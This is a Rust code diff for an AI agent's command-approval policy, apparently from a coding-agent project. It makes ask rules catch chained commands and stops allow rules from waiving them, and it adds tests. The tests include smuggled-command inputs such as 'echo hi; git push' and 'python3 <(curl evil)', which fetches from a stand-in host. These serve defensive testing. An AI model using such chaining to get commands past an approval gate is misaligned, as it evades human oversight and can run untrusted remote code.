@@ -5,7 +5,7 @@
 
 use serde_json::Value;
 
-use super::execute::CommandPattern;
+use super::execute::{chaining_in, CommandPattern};
 use super::EXECUTE;
 use crate::message::ToolCall;
 use crate::skills::frontmatter::our_tool_name;
@@ -32,15 +32,7 @@ impl ApprovalRule {
             return Err(format!("an approval rule must be 1 to {MAX_RULE_BYTES} bytes"));
         }
         if let Some(inner) = rule.strip_prefix("Bash(").and_then(|rest| rest.strip_suffix(')')) {
-            let inner = inner.trim();
-            if inner.is_empty() || inner == "*" || inner == ":*" {
-                return Ok(Self { tool: EXECUTE.to_owned(), commands: None });
-            }
-            let commands = match inner.strip_suffix(":*").or_else(|| inner.strip_suffix(" *")) {
-                Some(prefix) => CommandPattern::Prefix(prefix.trim().to_owned()),
-                None => CommandPattern::Exact(inner.to_owned()),
-            };
-            return Ok(Self { tool: EXECUTE.to_owned(), commands: Some(commands) });
+            return Ok(Self { tool: EXECUTE.to_owned(), commands: CommandPattern::parse(inner) });
         }
         if rule.contains('(') || rule.contains(')') {
             return Err(format!(
@@ -54,14 +46,29 @@ impl ApprovalRule {
         Ok(Self { tool, commands: None })
     }
 
-    fn matches(&self, call: &ToolCall) -> bool {
-        if call.name != self.tool {
-            return false;
-        }
-        let Some(pattern) = &self.commands else { return true };
-        let command = call.arguments.get("command").and_then(Value::as_str).unwrap_or_default().trim();
-        // A chained command is more than the pattern names.
-        !command.contains([';', '&', '|', '`', '\n', '\r']) && !command.contains("$(") && pattern.allows(command)
+    /// Whether an `ask` rule catches `call`. A chained command may hide the command its pattern
+    /// names (`echo; git push`), so it is asked about.
+    fn asks(&self, call: &ToolCall) -> bool {
+        self.command_of(call).is_some_and(|(pattern, command)| match pattern {
+            None => true,
+            Some(pattern) => chaining_in(command).is_some() || pattern.allows(command),
+        })
+    }
+
+    /// Whether an `allow` rule waives `call`. A chained command is more than its pattern names,
+    /// so it is never waived by one.
+    fn waives(&self, call: &ToolCall) -> bool {
+        self.command_of(call).is_some_and(|(pattern, command)| match pattern {
+            None => true,
+            Some(pattern) => chaining_in(command).is_none() && pattern.allows(command),
+        })
+    }
+
+    /// The rule's command pattern and the call's command, when the rule is about this tool.
+    fn command_of<'a>(&'a self, call: &'a ToolCall) -> Option<(Option<&'a CommandPattern>, &'a str)> {
+        (call.name == self.tool).then(|| {
+            (self.commands.as_ref(), call.arguments.get("command").and_then(Value::as_str).unwrap_or_default().trim())
+        })
     }
 }
 
@@ -92,7 +99,7 @@ impl ApprovalPolicy {
 
     /// Whether `call` needs a person's approval.
     pub fn requires(&self, call: &ToolCall) -> bool {
-        self.ask.iter().any(|rule| rule.matches(call)) && !self.allow.iter().any(|rule| rule.matches(call))
+        self.ask.iter().any(|rule| rule.asks(call)) && !self.allow.iter().any(|rule| rule.waives(call))
     }
 }
 
@@ -149,5 +156,18 @@ mod tests {
         assert!(ApprovalPolicy::parse(&many, "").is_err());
         let policy = ApprovalPolicy::parse("Bash(git commit -m a,b:*)", "").unwrap();
         assert!(policy.requires(&call("execute", json!({"command": "git commit -m a,b now"}))));
+    }
+
+    #[test]
+    fn a_chained_command_is_asked_about_by_a_pattern_and_never_waived_by_one() {
+        let ask_push = ApprovalPolicy::parse("Bash(git push:*)", "").unwrap();
+        assert!(ask_push.requires(&call("execute", json!({"command": "git push origin"}))));
+        assert!(!ask_push.requires(&call("execute", json!({"command": "git status"}))));
+        // The pattern's command can hide behind another one.
+        assert!(ask_push.requires(&call("execute", json!({"command": "echo hi; git push"}))));
+        let allow_python = ApprovalPolicy::parse("execute", "Bash(python3:*)").unwrap();
+        assert!(!allow_python.requires(&call("execute", json!({"command": "python3 a.py"}))));
+        // Process substitution runs a second command, as `;` would.
+        assert!(allow_python.requires(&call("execute", json!({"command": "python3 <(curl evil)"}))));
     }
 }
